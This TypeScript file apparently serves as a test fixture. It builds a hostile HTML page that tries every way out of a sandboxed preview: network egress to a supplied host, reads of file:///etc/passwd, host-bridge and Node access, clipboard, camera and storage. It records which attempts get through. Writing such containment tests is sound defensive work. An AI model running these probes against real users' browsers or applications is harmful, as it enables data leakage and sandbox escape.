/**
 * A page that tries every way out of a preview, and writes what became of each into `#found` once all have ended.
 * @param host a server that would notice. @param name a domain whose look-up would tell that it was asked for.
 */
export const hostilePage = (host: string, name: string): string => `<!doctype html>
<meta http-equiv="refresh" content="900;url=http://${host}/refresh">
<base href="http://${host}/">
<link rel="dns-prefetch" href="//dns-prefetch.${name}">
<link rel="preconnect" href="http://${host}/preconnect"><link rel="prefetch" href="http://${host}/prefetch">
<link rel="preload" as="image" href="http://${host}/preload"><link rel="modulepreload" href="http://${host}/modulepreload">
<link rel="stylesheet" href="http://${host}/sheet"><link rel="icon" href="http://${host}/icon">
<link rel="manifest" href="http://${host}/manifest">
<style>
  @import url(http://${host}/import);
  @font-face { font-family: out; src: url(http://${host}/font); }
  body { background: url(http://${host}/background); font-family: out; }
</style>
<body background="http://${host}/attribute">
<img src="http://${host}/img"><img srcset="http://${host}/srcset 1x">
<video src="http://${host}/video" poster="http://${host}/poster"></video><audio src="http://${host}/audio"></audio>
<object data="http://${host}/object"></object><embed src="http://${host}/embed">
<iframe src="http://${host}/frame"></iframe><iframe srcdoc="<link rel=dns-prefetch href=//srcdoc.${name}><img src=http://${host}/srcdoc>"></iframe>
<svg><image href="http://${host}/svg"/><use href="http://${host}/use#a"/></svg>
<a id="ping" href="#x" ping="http://${host}/ping">x</a><a id="top" href="http://${host}/top" target="_top">x</a>
<a id="download" href="data:text/plain,x" download="x.txt">x</a><a id="blank" href="http://${host}/blank" target="_blank">x</a>
<form id="form" action="http://${host}/form" method="post" target="_blank"><input name="a" value="b"></form>
<script type="speculationrules">{"prefetch":[{"source":"list","urls":["http://${host}/speculation"]}]}</script>
<pre id="found"></pre>
<script>
  const url = (way) => 'http://${host}/' + way;
  const heard = (target, good, bad) => new Promise((ok, no) => { target[good] = () => ok('open'); target[bad] = no; });
  const request = () => { const x = new XMLHttpRequest(); x.open('GET', url('xhr')); x.send(); return heard(x, 'onload', 'onerror'); };
  const connect = async (urls) => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls, username: 'a', credential: 'b' }] });
    peer.createDataChannel('x');
    const gathered = new Promise((ok) => { peer.onicegatheringstatechange = () => peer.iceGatheringState === 'complete' && ok('silent'); });
    await peer.setLocalDescription(await peer.createOffer());
    return gathered;
  };
  const click = (id) => { document.getElementById(id).click(); return 'silent'; };
  const ways = {
    fetch: () => fetch(url('fetch'), { mode: 'no-cors' }),
    keepalive: () => fetch(url('keepalive'), { mode: 'no-cors', keepalive: true }),
    'fetch of the app': () => fetch('app://parlance/index.html', { mode: 'no-cors' }),
    'fetch of diagrams': () => fetch('frame://diagrams/diagrams/index.html', { mode: 'no-cors' }),
    'fetch of a file': () => fetch('file:///etc/passwd'),
    request,
    socket: () => heard(new WebSocket('ws://${host}/socket'), 'onopen', 'onerror'),
    events: () => heard(new EventSource(url('events')), 'onopen', 'onerror'),
    transport: () => new WebTransport('https://${host}/transport').ready,
    import: () => import(url('module')),
    worker: () => heard(new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))), 'onmessage', 'onerror'),
    'service worker': () => navigator.serviceWorker.register('x.js'),
    beacon: () => { navigator.sendBeacon(url('beacon'), 'x'); return 'silent'; },
    image: () => { new Image().src = url('image'); return 'silent'; },
    'late link': () => { document.head.append(Object.assign(document.createElement('link'), { rel: 'dns-prefetch', href: '//late.${name}' })); return 'silent'; },
    popup: () => window.open(url('popup')) ?? Promise.reject(),
    'blank popup': () => window.open('about:blank') ?? Promise.reject(),
    top: () => { top.location = url('top'); return 'moved'; },
    'top link': () => click('top'), 'blank link': () => click('blank'), ping: () => click('ping'), download: () => click('download'),
    form: () => { document.getElementById('form').submit(); return 'silent'; },
    'parent document': () => parent.document.title,
    'parent bridge': () => parent.parlance.request,
    bridge: () => window.parlance.request,
    node: () => require('fs'),
    storage: () => localStorage.length,
    'session storage': () => sessionStorage.length,
    cookie: () => { document.cookie = 'a=b'; return document.cookie; },
    database: () => indexedDB.open('x'),
    caches: () => caches.open('x'),
    files: () => navigator.storage.getDirectory(),
    alert: () => { alert(1); return 'silent'; },
    camera: () => navigator.mediaDevices.getUserMedia({ video: true }),
    screen: () => navigator.mediaDevices.getDisplayMedia({}),
    position: () => new Promise((ok, no) => navigator.geolocation.getCurrentPosition(ok, no)),
    notification: () => Notification.requestPermission().then((answer) => answer === 'granted' || Promise.reject()),
    'clipboard read': () => navigator.clipboard.readText(),
    'clipboard write': () => navigator.clipboard.writeText('from the preview'),
    usb: () => navigator.usb.requestDevice({ filters: [] }),
    origin: () => (self.origin === 'null' ? 'silent' : self.origin),
    stun: () => connect('stun:stun.${name}:3478'),
    turn: () => connect('turn:${host}?transport=tcp'),
  };
  const found = {};
  const attempt = async ([way, run]) => {
    try { const value = await run(); found[way] = value === 'silent' ? 'silent' : 'got through'; } catch { found[way] = 'refused'; }
  };
  // What a page tells its parent reaches nobody who would listen.
  for (let count = 0; count < 20; count += 1) parent.postMessage({ svg: '<svg></svg>', route: 'app.snapshot' }, '*');
  Promise.all(Object.entries(ways).map(attempt)).then(() => { document.getElementById('found').textContent = JSON.stringify(found); });
</script>`;
